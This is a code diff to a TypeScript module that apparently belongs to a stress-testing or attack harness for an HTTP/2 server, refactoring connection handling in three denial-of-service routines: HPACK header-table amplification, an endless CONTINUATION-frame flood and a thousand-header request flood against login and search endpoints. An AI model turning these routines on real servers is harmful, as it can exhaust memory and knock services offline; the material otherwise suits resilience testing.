@@ -1,6 +1,6 @@
 import type { Attacker } from '../attacker/attacker.ts';
 import { callHeaders, indexed, kept, literal, newestIndex } from '../wire/hpack.ts';
-import { Http2Connection } from '../wire/http2-connection.ts';
+import { keepHttp2 } from '../wire/http2-connection.ts';
 import { Flag, FrameType, frame, framePayloadBytesMax, headersFrame } from '../wire/http2-frame.ts';
 import type { Attack } from './attack.ts';
 
@@ -11,9 +11,7 @@ const referencesPerCall = [16, 120, 4_000];
 const callsOpenMax = 900;
 
 async function amplify(attacker: Attacker): Promise<void> {
-  await attacker.keep(attacker.share(8), async () => {
-    const connection = await Http2Connection.open(attacker);
-    if (connection === undefined) return undefined;
+  await keepHttp2(attacker, { times: attacker.share(8) }, async (connection) => {
     await connection.open('/MessageService/Login', tableEntry);
     for (let i = 0; connection.isOpen && !attacker.isOver; i++) {
       const references = referencesPerCall[Math.floor(i / 100) % referencesPerCall.length] ?? 0;
@@ -21,7 +19,6 @@ async function amplify(attacker: Attacker): Promise<void> {
       await connection.open('/MessageService/Login', block);
       await connection.callsBelow(callsOpenMax);
     }
-    return true;
   });
 }
 
@@ -31,9 +28,7 @@ async function continueForever(
   payload: Buffer,
   framesPerWrite: number,
 ): Promise<void> {
-  await attacker.keep(attacker.share(4), async () => {
-    const connection = await Http2Connection.open(attacker);
-    if (connection === undefined) return undefined;
+  await keepHttp2(attacker, { times: attacker.share(4) }, async (connection) => {
     const stream = connection.nextStream();
     await connection.write(
       frame(FrameType.headers, Flag.none, stream, callHeaders('/MessageService/Login')),
@@ -45,7 +40,6 @@ async function continueForever(
       attacker.count('frames', framesPerWrite);
     }
     connection.reset();
-    return true;
   });
 }
 
@@ -53,15 +47,12 @@ async function continueForever(
 async function manyHeaders(attacker: Attacker): Promise<void> {
   const lines = Array.from({ length: 1_000 }, (_, i) => literal(`h${i}`, ''));
   const block = callHeaders('/MessageService/Search', Buffer.concat(lines));
-  await attacker.keep(attacker.share(4), async () => {
-    const connection = await Http2Connection.open(attacker);
-    if (connection === undefined) return undefined;
+  await keepHttp2(attacker, { times: attacker.share(4) }, async (connection) => {
     while (connection.isOpen && !attacker.isOver) {
       await connection.write(headersFrame(connection.nextStream(), block, true));
       attacker.count('calls');
     }
     connection.reset();
-    return true;
   });
 }
 
